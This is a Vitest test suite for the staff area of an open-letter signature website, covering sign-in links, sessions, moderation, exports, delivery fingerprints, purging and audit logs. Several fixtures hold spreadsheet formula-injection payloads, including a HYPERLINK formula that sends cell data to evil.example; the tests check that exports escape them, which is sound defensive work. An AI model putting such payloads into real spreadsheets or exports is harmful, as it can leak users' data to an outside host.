import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { query } from '../support/database.ts';
import { letterSlug, signAndConfirm, signUp, submitPageForm } from '../support/forms.ts';
import { projectRoot, startServer, type RunningServer } from '../support/server.ts';
import { linkIn, startSmtp, type SmtpCapture } from '../support/smtp.ts';
import { getAs, postAs, signInAs, staffCookieName, textOf } from '../support/staff.ts';

const staffEmail = 'staff@campaign.example';
const staffTeam = ['staff@campaign.example', 'second@campaign.example', 'third@campaign.example', 'fourth@campaign.example', 'fifth@campaign.example', 'sixth@campaign.example'];
let smtp: SmtpCapture;
let server: RunningServer;

beforeAll(async () => {
  smtp = await startSmtp();
  server = await startServer({ SMTP_URL: smtp.url, SIGN_MIN_SECONDS: '0', MAIL_RETRY_SECONDS: '0.2', TRUST_PROXY: '1', STAFF_EMAILS: staffTeam.join(', ') });
});
afterAll(async () => {
  await server?.stop();
  await smtp?.close();
});

const statusOf = (email: string) => query<{ status: string }>(server.databasePath, 'select status from signatures where email = ?', email)[0]?.status;
const idOf = (email: string) => query<{ id: number }>(server.databasePath, 'select id from signatures where email = ?', email)[0]!.id;
const publicList = async () => (await server.fetch(`/letters/${letterSlug}/signatories/`)).text();
const mailsTo = (address: string) => smtp.received.filter((mail) => mail.to.includes(address));

/**
 * Checks a list as delivered the way the letter page tells anyone to, with no code of ours: each
 * line's hash is the SHA-256 of its salt, a line break and its fields as a JSON list; the
 * fingerprint is the SHA-256 of all the hashes, one per line.
 */
function recomputed(csv: string) {
  const [, ...rows] = parseCsv(csv.replace(/^\ufeff/, ''), { relax_column_count: true }) as string[][];
  const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
  const mismatched = rows.filter(([hash, salt, ...fields]) => salt && sha256(`${salt}\n${JSON.stringify(fields)}`) !== hash).length;
  return { fingerprint: sha256(rows.map(([hash]) => `${hash}\n`).join('')), entries: rows.length, mismatched };
}

/** Signs and confirms through the emailed link, as a signer would. */

describe('signing in to the staff area', () => {
  it('answers a staff address and an unknown one alike, and mails only the first', async () => {
    const known = await postAs(server, '', '/admin/?_action=requestStaffSignIn', { email: staffEmail });
    const unknown = await postAs(server, '', '/admin/?_action=requestStaffSignIn', { email: 'intruder@evil.example' });
    const landing = async (answer: Awaited<ReturnType<typeof postAs>>) => textOf((await getAs(server, answer.setCookie.join('; '), answer.location!)).text, 'main');
    expect(await landing(known)).toBe(await landing(unknown));
    await smtp.waitFor((mail) => mail.to.includes(staffEmail));
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(mailsTo('intruder@evil.example')).toHaveLength(0);
  });

  it('signs in with the link, once: opening it changes nothing, pressing the button starts a session', async () => {
    const cookie = await signInAs(server, smtp, staffEmail);
    const dashboard = await getAs(server, cookie, '/admin/');
    expect(textOf(dashboard.text, 'h1')).toBe('Dashboard');
    expect(dashboard.headers.get('cache-control')).toBe('no-store');
    const link = linkIn(mailsTo(staffEmail).at(-1)!, '/admin/sign-in/');
    const again = await getAs(server, '', link.pathname + link.search);
    expect(textOf(again.text, '[role="alert"]')).toContain('This link has already been used');
  });

  it('refuses an expired link and a forged one', async () => {
    await postAs(server, '', '/admin/?_action=requestStaffSignIn', { email: 'second@campaign.example' });
    const mail = await smtp.waitFor((candidate) => candidate.to.includes('second@campaign.example'));
    query(server.databasePath, "update staff_sign_in_tokens set expires_at = 0 where email = 'second@campaign.example'");
    const link = linkIn(mail, '/admin/sign-in/');
    expect(textOf((await getAs(server, '', link.pathname + link.search)).text, '[role="alert"]')).toContain('This link has expired');
    const token = link.searchParams.get('token')!;
    const pressed = await postAs(server, '', `/admin/sign-in/?token=${token}&_action=staffSignIn`, { token });
    expect(pressed.setCookie.some((cookie) => cookie.startsWith(staffCookieName))).toBe(false);
    expect(textOf((await getAs(server, '', `/admin/sign-in/?token=${'A'.repeat(43)}`)).text, '[role="alert"]')).toContain('This link is not valid');
  });

  it('gives every sign-in a new session, which ends when idle 30 minutes, after 12 hours, or at sign-out', async () => {
    const first = await signInAs(server, smtp, 'third@campaign.example');
    const second = await signInAs(server, smtp, 'third@campaign.example');
    expect(first).not.toBe(second);
    const sessionId = (cookie: string) => createHash('sha256').update(cookie.split('=')[1]!).digest('hex');
    const closed = async (cookie: string) => (await getAs(server, cookie, '/admin/audit/')).location === '/admin/';

    query(server.databasePath, 'update staff_sessions set last_seen_at = ? where id = ?', Date.now() - 31 * 60 * 1000, sessionId(first));
    expect(await closed(first)).toBe(true);
    query(server.databasePath, 'update staff_sessions set created_at = ? where id = ?', Date.now() - 13 * 3600 * 1000, sessionId(second));
    expect(await closed(second)).toBe(true);

    const third = await signInAs(server, smtp, 'third@campaign.example');
    expect(await closed(third)).toBe(false);
    await postAs(server, third, '/admin/?_action=signOut', {});
    expect(await closed(third)).toBe(true);
    expect(query(server.databasePath, 'select id from staff_sessions where id = ?', sessionId(third))).toEqual([]);
  });

  it('lists your own sessions and ends one from another browser', async () => {
    const laptop = await signInAs(server, smtp, 'fourth@campaign.example');
    const phone = await signInAs(server, smtp, 'fourth@campaign.example');
    const page = (await getAs(server, laptop, '/admin/account/')).text;
    const phoneId = createHash('sha256').update(phone.split('=')[1]!).digest('hex');
    expect(page).toContain(phoneId);
    await postAs(server, laptop, '/admin/account/?_action=endSession', { session: phoneId });
    expect((await getAs(server, phone, '/admin/')).text).toContain('Email me a sign-in link');
    expect((await getAs(server, laptop, '/admin/')).text).toContain('Dashboard');
  });
});

describe('a stranger who keeps asking for a staff member’s sign-in link', () => {
  it('spends only their own network’s allowance: the staff member still signs in, and is told at their next sign-in', async () => {
    const target = staffTeam[5]!;
    const before = mailsTo(target).length;
    for (let i = 0; i < 12; i++) await postAs(server, '', '/admin/?_action=requestStaffSignIn', { email: target }, { 'X-Forwarded-For': '198.51.100.66' });
    // Signing the letter with the staff address spends no sign-in mail either.
    await signAndConfirm(server, smtp, signUp({ email: target, website: 'campaign.example' }));
    expect(mailsTo(target).length - before).toBeLessThanOrEqual(5 + 2);
    const first = await signInAs(server, smtp, target);
    expect(query<{ n: number }>(server.databasePath, "select count(*) as n from audit_log where staff = ? and action = 'sign-in-throttled'", target)[0]!.n).toBe(1);
    expect(textOf((await getAs(server, first, '/admin/')).text, '[role="alert"]')).toContain('1 request for a sign-in link to your address was refused because too many came at once');
    // The notice speaks of what happened between the sign-in before this one and this one.
    const second = await signInAs(server, smtp, target);
    expect(textOf((await getAs(server, second, '/admin/')).text, 'main')).not.toContain('refused because too many');
  });
});

describe('every staff route and action', () => {
  /** Every page and endpoint under src/pages/admin, as a URL, read from the project so none is forgotten. */
  function adminRoutes(): string[] {
    const base = join(projectRoot, 'src/pages/admin');
    const walk = (dir: string): string[] => readdirSync(dir).flatMap((name) => (statSync(join(dir, name)).isDirectory() ? walk(join(dir, name)) : [join(dir, name)]));
    return walk(base).map((file) => {
      const route = relative(base, file).replace(/\.(astro|ts)$/, '').replace('[letter]', letterSlug).replace('[id]', '1').replace('[format]', 'csv');
      if (route === 'index' || route.endsWith('/index')) return `/admin/${route.slice(0, -'index'.length)}`;
      return route.includes('.') ? `/admin/${route}` : `/admin/${route}/`;
    });
  }
  /** Every staff action, read from src/actions/staff.ts. */
  const staffActions = () => [...readFileSync(join(projectRoot, 'src/actions/staff.ts'), 'utf8').matchAll(/^ {2}(\w+): defineAction/gm)].map((match) => match[1]!);
  const openToAll = new Set(['/admin/', '/admin/sign-in/']);
  const publicActions = new Set(['requestStaffSignIn', 'staffSignIn']);

  it('are found: the pages, exports and actions the staff area has', () => {
    expect(adminRoutes()).toEqual(expect.arrayContaining(['/admin/', '/admin/audit/', '/admin/audit.csv', `/admin/letters/${letterSlug}/`, `/admin/letters/${letterSlug}/export.csv`, '/admin/entries/1/', '/admin/account/']));
    expect(staffActions()).toEqual(expect.arrayContaining(['moderate', 'editSignature', 'deliverLetter', 'signOut', 'endSession']));
  });

  it.each([
    ['no session', ''],
    ['a forged cookie', `${staffCookieName}=${'A'.repeat(43)}`],
    ['an expired session', 'expired'],
  ])('refuse with %s, never stored by a browser', async (_what, given) => {
    let cookie = given;
    if (given === 'expired') {
      cookie = await signInAs(server, smtp, 'fifth@campaign.example');
      query(server.databasePath, 'update staff_sessions set last_seen_at = 0');
    }
    for (const route of adminRoutes().filter((path) => !openToAll.has(path))) {
      const answer = await getAs(server, cookie, route);
      expect([answer.status, answer.location], route).toEqual([303, '/admin/']);
      expect(answer.headers.get('cache-control'), route).toBe('no-store');
      expect(answer.text, route).not.toContain('@');
    }
    const before = JSON.stringify(query(server.databasePath, 'select id, status, organization from signatures order by id'));
    for (const action of staffActions().filter((name) => !publicActions.has(name))) {
      const direct = await postAs(server, cookie, `/_actions/${action}`, { letter: letterSlug, ids: '1', decision: 'approve', id: '1', organization: 'X', country: 'KZ', orgType: 'ngo', listing: 'named', deliveredOn: '2026-01-01', recipients: 'x', session: 'a'.repeat(64) });
      expect(direct.status, action).toBe(401);
      const viaPage = await postAs(server, cookie, `/admin/letters/${letterSlug}/?_action=${action}`, { letter: letterSlug, ids: '1', decision: 'approve' });
      expect([viaPage.status, viaPage.location], action).toEqual([303, '/admin/']);
    }
    expect(JSON.stringify(query(server.databasePath, 'select id, status, organization from signatures order by id'))).toBe(before);
    expect(query(server.databasePath, 'select * from letter_deliveries')).toEqual([]);
  });
});

describe('publishing and moderation', () => {
  let cookie: string;
  beforeAll(async () => {
    cookie = await signInAs(server, smtp, staffEmail);
  });

  it('publishes at once only from an address at the website’s own domain; free mail and other domains wait, and the public sees only how many', async () => {
    await signAndConfirm(server, smtp, signUp({ organization: 'Own Domain Union', email: 'office@owndomain.kz', website: 'https://www.owndomain.kz/' }));
    await signAndConfirm(server, smtp, signUp({ organization: 'Free Mail Front', email: 'freemailfront@gmail.com', website: 'freemailfront.kz' }));
    await signAndConfirm(server, smtp, signUp({ organization: 'Famous NGO Impostor', email: 'press@elsewhere.kz', website: 'famous-ngo.org' }));
    expect([statusOf('office@owndomain.kz'), statusOf('freemailfront@gmail.com'), statusOf('press@elsewhere.kz')]).toEqual(['published', 'verified', 'verified']);
    const list = await publicList();
    expect(list).toContain('Own Domain Union');
    expect(list).not.toContain('Free Mail Front');
    expect(list).not.toContain('Famous NGO Impostor');
    expect(textOf(list, 'main')).toMatch(/2 more confirmed signatures are awaiting review/);
  });

  it('changes what the public sees: approve, hide, restore and reject, one at a time or in bulk', async () => {
    const waiting = [idOf('freemailfront@gmail.com'), idOf('press@elsewhere.kz')];
    const queue = await getAs(server, cookie, `/admin/letters/${letterSlug}/?status=verified`);
    expect(queue.text).toContain('Address at a mail provider');
    expect(queue.text).toContain('Address not at the website’s domain');

    await postAs(server, cookie, `/admin/letters/${letterSlug}/?_action=moderate`, { letter: letterSlug, ids: waiting.map(String), decision: 'approve' });
    expect(await publicList()).toContain('Free Mail Front');
    expect(await publicList()).toContain('Famous NGO Impostor');

    await postAs(server, cookie, `/admin/entries/${waiting[1]}/?_action=moderate`, { letter: letterSlug, ids: String(waiting[1]), decision: 'hide', note: 'impersonation' });
    expect(await publicList()).not.toContain('Famous NGO Impostor');
    expect((await (await server.fetch(`/letters/${letterSlug}/signatories.json`)).text())).not.toContain('Famous NGO Impostor');
    await postAs(server, cookie, `/admin/entries/${waiting[1]}/?_action=moderate`, { letter: letterSlug, ids: String(waiting[1]), decision: 'restore' });
    expect(await publicList()).toContain('Famous NGO Impostor');
    await postAs(server, cookie, `/admin/entries/${waiting[1]}/?_action=moderate`, { letter: letterSlug, ids: String(waiting[1]), decision: 'reject' });
    expect(await publicList()).not.toContain('Famous NGO Impostor');
    expect(statusOf('press@elsewhere.kz')).toBe('rejected');
  });

  it('corrects an entry’s public fields, but cannot name an anonymous one', async () => {
    const id = idOf('freemailfront@gmail.com');
    await postAs(server, cookie, `/admin/entries/${id}/?_action=editSignature`, { id: String(id), organization: 'Free Mail Front KZ', country: 'KZ', website: 'freemailfront.kz', orgType: 'ngo', statement: '', listing: 'anonymous', note: 'asked by phone' });
    expect(await publicList()).not.toContain('Free Mail Front');
    const refused = await postAs(server, cookie, `/admin/entries/${id}/?_action=editSignature`, { id: String(id), organization: 'Free Mail Front KZ', country: 'KZ', website: '', orgType: 'ngo', statement: '', listing: 'named' });
    expect(textOf((await getAs(server, [cookie, ...refused.setCookie].join('; '), refused.location!)).text, '[role="alert"]')).toContain('Only the signer can list an anonymous entry by name');
    expect(query<{ listing: string }>(server.databasePath, 'select listing from signatures where id = ?', id)[0]?.listing).toBe('anonymous');
  });
});

describe('“all that match”', () => {
  it('decides only up to the newest entry the staff member’s page showed, never one signed since', async () => {
    const cookie = await signInAs(server, smtp, 'fourth@campaign.example');
    await signAndConfirm(server, smtp, signUp({ organization: 'Bulk Shown One', email: 'bulk.shown.one@gmail.com', website: 'bulkshownone.kz' }));
    const page = await getAs(server, cookie, `/admin/letters/${letterSlug}/?status=verified&q=Bulk+Shown`);
    expect(textOf(page.text, 'main')).toContain('Approve the 1 entry that matches');
    const upTo = /name="upTo" value="(\d+)"/.exec(page.text)![1]!;
    // Signed and confirmed after the page was drawn: it matches the filter, but nobody has seen it.
    await signAndConfirm(server, smtp, signUp({ organization: 'Bulk Shown Two', email: 'bulk.shown.two@gmail.com', website: 'bulkshowntwo.kz' }));
    await postAs(server, cookie, `/admin/letters/${letterSlug}/?_action=moderate`, { letter: letterSlug, all: 'approve', filter: 'status=verified&q=Bulk+Shown', upTo });
    expect([statusOf('bulk.shown.one@gmail.com'), statusOf('bulk.shown.two@gmail.com')]).toEqual(['published', 'verified']);
    // Without the page's mark, "all" decides nothing.
    await postAs(server, cookie, `/admin/letters/${letterSlug}/?_action=moderate`, { letter: letterSlug, all: 'approve', filter: 'status=verified&q=Bulk+Shown' });
    expect(statusOf('bulk.shown.two@gmail.com')).toBe('verified');
    await postAs(server, cookie, `/admin/letters/${letterSlug}/?_action=moderate`, { letter: letterSlug, ids: String(idOf('bulk.shown.two@gmail.com')), decision: 'reject', reason: 'could-not-verify' });
    const rejection = await smtp.waitFor((mail) => mail.to.includes('bulk.shown.two@gmail.com') && /has not added it to the public list/.test(mail.text));
    expect(rejection.text).toContain('We could not confirm that this address speaks for the organization.');
  });
});

describe('exports', () => {
  let cookie: string;
  // The form now refuses a name or statement that starts like a formula, so these stand for
  // entries stored before that rule: every CSV must still escape them, line breaks and all.
  const hostile = [
    { organization: '=HYPERLINK("https://evil.example/?"&A2,\n"Open")', statement: '+1 and @SUM(1+1)\r\nsecond line' },
    { organization: 'Say "hello", friends', statement: 'Line one\n=line two' },
    { organization: 'Правозащитное бюро «Әділ сөз»', statement: '-2+3, қазақша,\nҚҰРМЕТ' },
  ];
  beforeAll(async () => {
    cookie = await signInAs(server, smtp, 'second@campaign.example');
    for (const [index, values] of hostile.entries()) {
      const email = `hostile${index}@csv${index}.kz`;
      await signAndConfirm(server, smtp, signUp({ organization: `Export Test ${index}`, email, website: `csv${index}.kz` }));
      query(server.databasePath, 'update signatures set organization = ?, statement = ? where email = ?', values.organization, values.statement, email);
    }
  });

  it('give a CSV that spreadsheets open safely and a parser reads back exactly', async () => {
    const response = await server.fetch(`/admin/letters/${letterSlug}/export.csv?q=csv`, { headers: { Cookie: cookie } });
    const bytes = Buffer.from(await response.arrayBuffer());
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text).toContain('\r\n');
    const rows = parseCsv(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(3);
    // Cells a spreadsheet would run as formulas start with a quote; everything else is exactly what was typed.
    expect(rows.map((row) => row.organization)).toEqual([`'${hostile[0]!.organization}`, hostile[1]!.organization, hostile[2]!.organization]);
    expect(rows.map((row) => row.statement)).toEqual([`'${hostile[0]!.statement}`, hostile[1]!.statement, `'${hostile[2]!.statement}`]);
    expect(rows[0]!.email).toBe('hostile0@csv0.kz');
  });

  it('give a public signatories.csv that escapes the same cells, line breaks and all', async () => {
    const rows = parseCsv(await (await server.fetch(`/letters/${letterSlug}/signatories.csv`)).text(), { bom: true, columns: true }) as Record<string, string>[];
    const published = rows.filter((row) => hostile.some((values) => row.organization?.endsWith(values.organization)));
    expect(published.map((row) => row.organization)).toEqual([`'${hostile[0]!.organization}`, hostile[1]!.organization, hostile[2]!.organization]);
    expect(published.map((row) => row.statement)).toEqual([`'${hostile[0]!.statement}`, hostile[1]!.statement, `'${hostile[2]!.statement}`]);
  });

  it('give JSON, and a text block to paste under the letter in its language', async () => {
    const json = (await (await server.fetch(`/admin/letters/${letterSlug}/export.json?q=csv`, { headers: { Cookie: cookie } })).json()) as { signatures: { organization: string }[] };
    expect(json.signatures.map((row) => row.organization)).toContain('Say "hello", friends');
    const text = await (await server.fetch(`/admin/letters/${letterSlug}/export.txt?q=csv&status=published`, { headers: { Cookie: cookie } })).text();
    expect(text.split('\n')).toContain('Правозащитное бюро «Әділ сөз» (Kazakhstan)');
  });

  it('from the command line equal the download, byte for byte', async () => {
    const out = join(mkdtempSync(join(tmpdir(), 'undersigned-cli-export-')), 'exports', 'signatures.csv');
    const cli = spawnSync(process.execPath, ['src/cli/export.ts', '--letter', letterSlug, '--format', 'csv', '--q', 'csv', '--out', out], {
      cwd: projectRoot,
      env: { PATH: process.env.PATH, DATABASE_PATH: server.databasePath },
      encoding: 'utf8',
    });
    expect(cli.stderr).toContain('Wrote');
    expect(cli.status).toBe(0);
    const web = Buffer.from(await (await server.fetch(`/admin/letters/${letterSlug}/export.csv?q=csv`, { headers: { Cookie: cookie } })).arrayBuffer());
    expect(readFileSync(out).equals(web)).toBe(true);
    expect(statSync(out).mode & 0o777).toBe(0o600);
    rmSync(out);
  });
});

describe('delivering the letter', () => {
  it('freezes the list with a fingerprint anyone can recompute, mails every signer, and closes signing', async () => {
    const cookie = await signInAs(server, smtp, 'sixth@campaign.example');
    for (const [organization, domain] of [['Open Letter Society', 'open-letter-society.kz'], ['Later Anonymous Union', 'anonymous-later.kz'], ['Later Withdrawn Union', 'withdrawn-later.kz']] as const) {
      await signAndConfirm(server, smtp, signUp({ organization, email: `office@${domain}`, website: domain }));
    }
    const listed = query<{ email: string }>(server.databasePath, "select email from signatures where status = 'published'").map((row) => row.email);
    // The letter's first recipient, picked by its place in the letter's own list.
    await postAs(server, cookie, `/admin/letters/${letterSlug}/deliver/?_action=deliverLetter`, { letter: letterSlug, deliveredOn: '2026-11-02', recipients: '0', backlog: 'without', note: 'handed over at the reception' });

    const letterPage = (await (await server.fetch(`/letters/${letterSlug}/`)).text());
    const shown = textOf(letterPage, '.delivery .fingerprint');
    const delivered = await (await server.fetch(`/letters/${letterSlug}/delivered.csv`)).text();
    expect(recomputed(delivered)).toEqual({ fingerprint: shown, entries: listed.length, mismatched: 0 });
    expect(delivered).toContain('Open Letter Society');
    // The frozen list escapes a cell that starts like a formula, line break and all (see "exports").
    const frozen = parseCsv(delivered, { bom: true, columns: true }) as Record<string, string>[];
    expect(frozen.find((row) => row.organization?.includes('HYPERLINK'))?.organization).toBe('\'=HYPERLINK("https://evil.example/?"&A2,\n"Open")');
    expect(textOf(letterPage, '.delivery')).toContain('The President of the Republic of Kazakhstan, Kassym-Jomart Tokayev');
    expect(textOf(letterPage, '.letter-status')).toBe('Delivered to the recipients on 2 November 2026');
    expect(letterPage).not.toContain('class="sign-form"');

    for (const email of listed) await smtp.waitFor((mail) => mail.to.includes(email) && /Delivered/.test(mail.subject));
    const again = await postAs(server, cookie, `/admin/letters/${letterSlug}/deliver/?_action=deliverLetter`, { letter: letterSlug, deliveredOn: '2026-11-03', recipients: '1', backlog: 'without' });
    expect(again.status).toBe(303);
    expect(query(server.databasePath, 'select recipients from letter_deliveries')).toEqual([{ recipients: '[0]' }]);
  });

  it('lets a signer who lists anonymously or withdraws afterwards leave the public copy, which still checks', async () => {
    const fingerprint = textOf(await (await server.fetch(`/letters/${letterSlug}/`)).text(), '.delivery .fingerprint');
    for (const [email, action] of [['office@anonymous-later.kz', '_action=listAnonymously'], ['office@withdrawn-later.kz', '_action=withdrawSignature']] as const) {
      const manage = linkIn(await smtp.waitFor((mail) => mail.to.includes(email) && mail.text.includes('/manage/?token=')), '/manage/');
      // Withdrawing takes a second step: the form that withdraws is on the manage page's step=withdraw.
      if (action === '_action=withdrawSignature') manage.searchParams.set('step', 'withdraw');
      expect((await submitPageForm(server, manage, action)).status).toBe(303);
    }
    const delivered = await (await server.fetch(`/letters/${letterSlug}/delivered.csv`)).text();
    expect(delivered).not.toContain('Later Anonymous Union');
    expect(delivered).not.toContain('Later Withdrawn Union');
    expect(delivered).toContain('Open Letter Society');
    expect(recomputed(delivered)).toMatchObject({ fingerprint, mismatched: 0 });
    const check = spawnSync(process.execPath, ['src/cli/check-delivery.ts', '-', fingerprint!], { cwd: projectRoot, input: delivered, encoding: 'utf8' });
    expect(check.status, check.stdout + check.stderr).toBe(0);
    expect(check.stdout).toContain('with their hash only');
  });
});

describe('retention', () => {
  it('purges contact details and keeps the public entries and the counts', async () => {
    const countBefore = textOf(await publicList(), '.count');
    const purge = spawnSync(process.execPath, ['src/cli/purge.ts', '--older-than', '0'], { cwd: projectRoot, env: { PATH: process.env.PATH, DATABASE_PATH: server.databasePath }, encoding: 'utf8' });
    expect(purge.status).toBe(0);
    expect(purge.stdout).toMatch(/Removed contact details from \d+ signatures/);
    const left = query<{ email: string | null; contact_name: string | null; status: string }>(server.databasePath, "select email, contact_name, status from signatures where status in ('published', 'rejected', 'verified', 'hidden', 'withdrawn')");
    expect(left.length).toBeGreaterThan(3);
    expect(left.every((row) => row.email === null && row.contact_name === null)).toBe(true);
    expect(query<{ n: number }>(server.databasePath, "select count(*) as n from outbox where text_body is not null and status <> 'queued'")[0]!.n).toBe(0);
    expect(textOf(await publicList(), '.count')).toBe(countBefore);
  });
});

describe('the audit log', () => {
  it('records who did what to which signatures, with the values before and after, and staff can read and export it', async () => {
    const rows = query<{ staff: string; action: string; signature_ids: string; before: string | null; after: string | null; note: string | null }>(server.databasePath, 'select * from audit_log order by id');
    const actions = rows.map((row) => row.action);
    expect(actions).toEqual(expect.arrayContaining(['sign-in', 'sign-out', 'end-session', 'approve', 'hide', 'restore', 'reject', 'edit', 'deliver', 'purge']));
    const hide = rows.find((row) => row.action === 'hide')!;
    expect(hide.staff).toBe(staffEmail);
    expect(hide.note).toBe('impersonation');
    expect(Object.values(JSON.parse(hide.before!) as Record<string, { status: string }>)[0]).toEqual({ status: 'published' });
    expect(Object.values(JSON.parse(hide.after!) as Record<string, { status: string }>)[0]).toEqual({ status: 'hidden' });
    const edit = rows.find((row) => row.action === 'edit')!;
    expect(JSON.parse(edit.after!)).toMatchObject({ [JSON.parse(edit.signature_ids)[0]]: { listing: 'anonymous' } });

    const cookie = await signInAs(server, smtp, 'fifth@campaign.example');
    expect((await getAs(server, cookie, '/admin/audit/')).text).toContain('impersonation');
    // A note that starts like a formula, across two lines (the audit log takes any note staff type).
    const note = '=HYPERLINK("https://evil.example/?"&A2,\n"Open")';
    query(server.databasePath, "insert into audit_log (at, staff, action, signature_ids, note) values (?, 'fifth@campaign.example', 'note-test', '[]', ?)", Date.now(), note);
    const csv = parseCsv(await (await server.fetch('/admin/audit.csv', { headers: { Cookie: cookie } })).text(), { bom: true, columns: true }) as { action: string; note: string }[];
    expect(csv.map((row) => row.action)).toEqual(expect.arrayContaining(['hide', 'deliver', 'purge']));
    expect(csv.find((row) => row.action === 'note-test')?.note).toBe(`'${note}`);
  });
});
